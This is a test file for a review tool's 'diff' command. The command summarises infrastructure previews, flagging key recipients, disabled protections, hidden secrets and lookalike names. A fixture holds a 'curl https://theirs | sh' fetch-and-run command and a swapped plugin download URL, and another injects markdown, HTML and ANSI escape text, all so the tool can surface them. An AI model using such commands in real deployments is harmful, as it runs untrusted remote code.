import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { call } from "./support/call";

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), "sealflow-diff-"));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

type Values = Record<string, unknown>;
const UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";

const step = (op: string, kind: string, name: string, before?: Values, after?: Values, diffReasons?: string[]) => ({
  op,
  urn: `urn:pulumi:prod::p::sealflow:index:ConfidentialPipeline$sealflow:index:${kind}::${name}`,
  ...(before ? { oldState: { inputs: before } } : {}),
  ...(after ? { newState: { inputs: after } } : {}),
  ...(diffReasons ? { diffReasons } : {}),
});

async function diff(steps: object[], more: object = {}, ...args: string[]) {
  const file = path.join(dir, "preview.json");
  writeFileSync(file, JSON.stringify({ steps, diagnostics: [], ...more }));
  return call(["diff", file, ...args], { cwd: dir });
}

it("tells which identity changes, by what, with what is not known yet named so", async () => {
  const old = { step: "count", command: "[secret]", image: { digest: "a".repeat(64) }, limits: { retryLimit: 0 } };
  const next = { step: "count", command: "[secret]", image: { digest: UNKNOWN }, limits: { retryLimit: 2 } };
  const reasons = ["command", "image", "limits"];
  const { code, stdout } = await diff([step("replace", "StepIdentity", "spam-count", old, next, reasons)]);
  expect(code).toBe(0);
  expect(stdout).toContain("### Who gets keys: identities of steps");
  expect(stdout).toContain("± `spam-count`: another guest gets keys; the one before gets none any more");
  expect(stdout).toContain(`\`image.digest\`: \`${"a".repeat(64)}\` → \`known after the deployment\``);
  expect(stdout).toContain("`limits.retryLimit`: `0` → `2`");
  expect(stdout).toContain("`command`: `a secret`, changed");
});

it("tells who may read releases and start runs, for whom", async () => {
  const old = { releases: { model: { from: "a.b", recipients: ["owner"] } }, runKeys: ["k1"], steps: { a: { b: 1 } } };
  const next = {
    releases: { model: { from: "a.b", recipients: ["owner", "analyst"] } },
    recipients: { analyst: "KEY" },
    runKeys: ["k1", "k2"],
    steps: { a: UNKNOWN },
  };
  const { stdout } = await diff([
    step("replace", "StepIdentity", "spam-a", { step: "a", tee: "snp" }, { step: "a", tee: "tdx" }),
    step("update", "PipelineVersion", "spam-version", old, next),
  ]);
  expect(stdout).toContain("### Who may read releases and start runs");
  expect(stdout).toContain('`releases.model.recipients`: `["owner"]` → `["owner","analyst"]`');
  expect(stdout).toContain("`recipients.analyst`: `KEY`");
  expect(stdout).toContain('`runKeys`: `["k1"]` → `["k1","k2"]`');
  expect(stdout).not.toContain("`steps");
});

it("puts protections that go off before everything else, and those that come on", async () => {
  const { stdout, json } = await diff(
    [
      step("replace", "SealedImage", "spam-image", { sourceDigest: "1" }, { sourceDigest: "2", unpinnedRunner: "old" }),
      step("replace", "StepIdentity", "spam-a", {}, { inputs: { x: { allowUnsafeFormat: "legacy" } } }),
      step("replace", "StepIdentity", "spam-b", { trustProgram: "why" }, {}),
    ],
    {},
  ).then(async (text) => ({
    stdout: text.stdout,
    json: (await diff([step("create", "StepIdentity", "spam-c", undefined, { trustProgram: "new" })], {}, "--json"))
      .json,
  }));
  const [, first] = stdout.split("### ");
  expect(first).toContain("Protections turned off or on");
  expect(first).toContain("+ `spam-a: inputs.x.allowUnsafeFormat`: OFF: the file can hold code");
  expect(first).toContain("− `spam-b: trustProgram`: on again");
  expect(first).toContain("+ `spam-image: unpinnedRunner`: OFF");
  expect(json.changes[0]).toMatchObject({ area: "waivers", op: "create", subject: "spam-c: trustProgram" });
});

it("does not show digests of plain content", async () => {
  const { stdout } = await diff([
    step("replace", "SealedDataset", "spam-data", { sourceDigest: "b".repeat(64) }, { sourceDigest: "c".repeat(64) }),
  ]);
  expect(stdout).toContain("± `spam-data`: other data");
  expect(stdout).not.toMatch(/b{12}|c{12}/);
});

it("a stranger's reason stays inside of its code span", async () => {
  const reason = "ok`\n\n# Approved by security ``` <img src=x> @team [x](https://x.example) \u001b[2J";
  const { stdout } = await diff([step("create", "StepIdentity", "spam-a", undefined, { trustProgram: reason })]);
  for (const line of stdout.split("\n").filter((l) => l.includes("Approved"))) {
    expect(line).toMatch(/````+ .* ````+/);
    expect(line).not.toMatch(/^#/);
  }
  expect(stdout).not.toMatch(/^# Approved/m);
  expect(stdout).not.toContain("\u001b");
});

it("says so when nothing changes, and when the preview itself failed", async () => {
  const same = await diff([step("same", "StepIdentity", "spam-a", { a: 1 }, { a: 1 })]);
  expect(same.stdout).toContain("Nothing: no identity");
  expect(same.stdout).toContain("Unchanged resources: 1.");
  const failed = await diff([], { diagnostics: [{ severity: "error", message: "keys: no root" }] });
  expect(failed.code).toBe(6);
  expect(failed.stdout).toContain("**The preview failed");
  expect(failed.stdout).not.toContain("Nothing: no identity");
});

it.each([
  ["text", "hello"],
  ["other JSON", '{"a":1}'],
  ["an operation that is not known", JSON.stringify({ steps: [{ op: "explode", urn: "urn:pulumi:a::b::c::d" }] })],
])("refuses %s", async (_what, content) => {
  writeFileSync(path.join(dir, "x.json"), content);
  const { code, stderr } = await call(["diff", "x.json"], { cwd: dir });
  expect(code).toBe(1);
  expect(stderr).toContain("[PREVIEW]");
});

describe("a change that wants to pass unseen", () => {
  const entry = { programId: "1".repeat(64), publicKey: "OURS" };

  it("a step's entry of the version is told when the step itself stays: other keys would sign its receipts", async () => {
    const { stdout } = await diff([
      step(
        "update",
        "PipelineVersion",
        "v",
        { steps: { a: entry } },
        { steps: { a: { ...entry, publicKey: "THEIRS" } } },
      ),
    ]);
    expect(stdout).toContain("`steps.a.publicKey`: `OURS` → `THEIRS`");
  });

  it("what the engine calls unchanged is compared, too: the next change would take it", async () => {
    const ours = { step: "a", relyingParty: { kbsUrl: "https://kbs.ours" }, relyingPartyDigest: "d" };
    const theirs = { ...ours, relyingParty: { kbsUrl: "https://kbs.theirs" } };
    const { stdout } = await diff([step("same", "StepIdentity", "spam-a", ours, theirs)]);
    expect(stdout).toContain("~ `spam-a`: nothing is done now");
    expect(stdout).toContain("`relyingParty.kbsUrl`: `https://kbs.ours` → `https://kbs.theirs`");
    expect(stdout).not.toContain("Nothing: no identity");
  });

  it("says when unchanged resources were not listed and so not compared", async () => {
    const { stdout } = await diff([step("same", "StepIdentity", "a", {}, {})], { changeSummary: { same: 12 } });
    expect(stdout).toContain("The inputs of 11 resources");
    expect(stdout).not.toContain("Nothing: no identity");
    expect(stdout).toContain("Unchanged resources: 12.");
  });

  it("options that hold a resource back from being deleted, and another provider for it", async () => {
    const [item] = [step("same", "KbsResource", "token", { path: "a/b/c" }, { path: "a/b/c" })] as Values[];
    const provider = "urn:pulumi:prod::p::pulumi:providers:sealflow";
    const { stdout } = await diff([
      {
        ...item,
        oldState: { inputs: {}, protect: true, provider: `${provider}::default::1` },
        newState: { inputs: {}, provider: `${provider}::mine::2` },
      },
    ]);
    expect(stdout).toContain("~ `token: protect`");
    expect(stdout).toContain("`protect`: `true` → none");
    expect(stdout).toMatch(/### Code that the deployment runs[^#]*~ `token: provider`/);
  });

  it.each([
    ["retainOnDelete", { retainOnDelete: true }, true],
    ["deletedWith something that goes", { deletedWith: "urn:pulumi:prod::p::a:b:C::dummy" }, true],
    ["deletedWith something that stays", { deletedWith: "urn:pulumi:prod::p::a:b:C::other" }, false],
  ])("what is said to go, with the option %s", async (_what, option, stays) => {
    const gone = step("delete", "StepIdentity", "spam-a", { step: "a" }) as { oldState: object };
    const other = step("replace", "StepIdentity", "spam-b", { step: "b" }, { step: "b", tee: "tdx" }) as typeof gone;
    const steps = [gone, other].map((item) => ({ ...item, oldState: { ...item.oldState, ...option } }));
    const dummy = { op: "delete", urn: "urn:pulumi:prod::p::a:b:C::dummy", oldState: { type: "a:b:C", inputs: {} } };
    const { stdout } = await diff([...steps, dummy]);
    expect(stdout.includes("− `spam-a`: ONLY LEAVES THE STATE")).toBe(stays);
    expect(stdout.includes("± `spam-b`: is made anew, and the one before STAYS AS IT IS")).toBe(stays);
    expect(stdout.includes("gets no keys any more")).toBe(!stays);
    expect(stdout.includes("gets none any more")).toBe(!stays);
  });

  it("a waiver, a recipient or a whole input that is marked as a secret or unknown is named as hidden", async () => {
    const after = {
      step: "a",
      inputs: "[secret]",
      recipients: { x: UNKNOWN },
      trustProgram: UNKNOWN,
      command: "[secret]",
    };
    const { stdout } = await diff([step("create", "StepIdentity", "spam-a", undefined, after)]);
    const [, first = ""] = stdout.split("### ");
    expect(first).toContain("What this review cannot show");
    expect(first).toContain("`spam-a: inputs`: a secret, where StepIdentity takes a value that can be reviewed");
    expect(first).toContain("`spam-a: recipients.x`: known only when it is deployed");
    expect(first).toContain("`spam-a: trustProgram`: known only");
    expect(first).not.toContain("command");
  });

  it("a platform's own credentials are no riddle, its waivers are", async () => {
    const after = { azure: { clientSecret: "[secret]" }, acknowledgeStockGuestImage: "[secret]" };
    const { stdout } = await diff([step("create", "AksPeerPods", "pool", undefined, after)]);
    const hidden = stdout.split("### ").find((part) => part.startsWith("What this review")) ?? "";
    expect(hidden).toContain("`pool: acknowledgeStockGuestImage`: a secret");
    expect(hidden).not.toContain("clientSecret");
  });

  it("a new identity is told whole: the key broker that gets its keys, what its guest is and may", async () => {
    const after = {
      step: "a",
      relyingParty: { kbsUrl: "https://kbs.theirs" },
      egress: true,
      guest: { reads: ["kbs:///a"] },
    };
    const { stdout } = await diff([step("create", "StepIdentity", "renamed", undefined, after)]);
    expect(stdout).toContain("`relyingParty.kbsUrl`: `https://kbs.theirs`");
    expect(stdout).toContain("`egress`: `true`");
    expect(stdout).toContain('`guest.reads`: `["kbs:///a"]`');
  });

  it("a change inside of a nested secret", async () => {
    const image = { digest: "1", env: "[secret]" };
    const { stdout } = await diff([step("update", "StepIdentity", "a", { image }, { image }, ["image"])]);
    expect(stdout).toContain("`image`: `a secret`, changed");
  });

  it("neither long lists nor many fields hide the last one", async () => {
    const keys = Array.from({ length: 30 }, (_, i) => `${i}-${"k".repeat(43)}`);
    const noise = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`a${i}`, i]));
    const { stdout } = await diff([
      step("update", "PipelineVersion", "v", { runKeys: keys }, { ...noise, runKeys: [...keys, "THEIRS"], zz: 1 }),
    ]);
    expect(stdout).toContain("`runKeys[]`: `THEIRS`");
    expect(stdout).toContain("`zz`: `1`");
    expect(stdout).not.toContain("0-kkk");
  });

  it("a comment that would be cut says so at its top, by how much", async () => {
    const many = Array.from({ length: 3000 }, (_, i) =>
      step("create", "KbsResource", `r${i}`, undefined, { path: `a/b/${i}` }),
    );
    const { stdout } = await diff(many);
    expect(stdout.length).toBeLessThan(65_000);
    expect(stdout.split("\n")[2]).toMatch(/^\*\*TOO LONG: \d+ of \d+ lines are missing/);
  });

  it("resources of other packages by name; those that are code before the rest", async () => {
    const other = (type: string, name: string, after: Values, parents = "") => ({
      op: "create",
      urn: `urn:pulumi:prod::p::${parents}${type}::${name}`,
      newState: { type, inputs: after },
    });
    const { stdout } = await diff([
      other("command:local:Command", "lint", { create: "curl https://theirs | sh" }),
      other("pulumi:providers:sealflow", "mine", { pluginDownloadURL: "https://theirs" }),
      other("kubernetes:core/v1:Secret", "s", {}),
      {
        ...other("kubernetes:apps/v1:Deployment", "kbs", { spec: { image: "theirs" } }, "sealflow:index:Trustee$"),
        op: "update",
        oldState: { inputs: { spec: { image: "ours" } } },
      },
    ]);
    const code = stdout.split("### ").find((part) => part.startsWith("Code that")) ?? "";
    expect(code).toContain("`create`: `curl https://theirs | sh`");
    expect(code).toContain("`pluginDownloadURL`: `https://theirs`");
    expect(stdout).toMatch(/### Parts of the key broker's[^#]*`spec.image`: `ours` → `theirs`/);
    expect(stdout).toContain("+ `s (kubernetes:core/v1:Secret)`: new");
  });

  it("what an earlier update left to be deleted does not stand in for what becomes of its successor", async () => {
    const { stdout } = await diff([
      step("replace", "StepIdentity", "spam-a", { egress: false }, { egress: true }),
      step("delete", "StepIdentity", "spam-a", { egress: false }),
    ]);
    expect(stdout).toContain("`egress`: `false` → `true`");
    expect(stdout).toContain("− `spam-a`");
  });

  it("names and values that only look alike do not", async () => {
    const { stdout } = await diff([
      step("create", "StepIdentity", "sp\u0430m", undefined, { trustProgram: "a\u200bb\u2028c  d\r\n\u202e" }),
      step("update", "KbsResource", "r", { path: "a" }, { path: "a\u3164" }),
    ]);
    expect(stdout).toContain("`sp\\u{430}m`");
    expect(stdout).toContain("a\\u{200b}b\\u{2028}c \\u{20}d\\u{d}\\n\\u{202e}");
    expect(stdout).toContain("`a` → `a\\u{3164}`");
  });
});
